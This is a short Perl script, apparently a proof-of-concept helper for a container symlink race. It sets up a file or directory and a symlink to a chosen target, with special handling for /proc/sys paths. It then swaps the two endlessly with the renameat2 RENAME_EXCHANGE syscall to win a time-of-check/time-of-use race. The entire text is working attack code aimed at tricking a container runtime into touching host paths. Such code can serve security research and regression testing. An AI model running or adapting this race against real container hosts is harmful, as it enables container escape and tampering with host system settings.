# race.pl NAME TARGET   exchanges NAME, as fast as it can, for a link to TARGET
use strict;
use warnings;

my ($name, $target) = @ARGV;
if ($target =~ m{^/proc/sys}) {
    open my $file, '>', $name or die "$name: $!";
} else {
    mkdir $name;
    mkdir "$name/inner";
    open my $file, '>', "$name/mine" or die "$name/mine: $!";
    print $file "of the container\n";
}
symlink $target, "$name.link" or die "$name.link: $!";
$| = 1;
print "racing\n";
# renameat2(2), AT_FDCWD, RENAME_EXCHANGE
while (1) {
    syscall(316, -100, $name, -100, "$name.link", 2) == 0 or die "$name: $!";
}
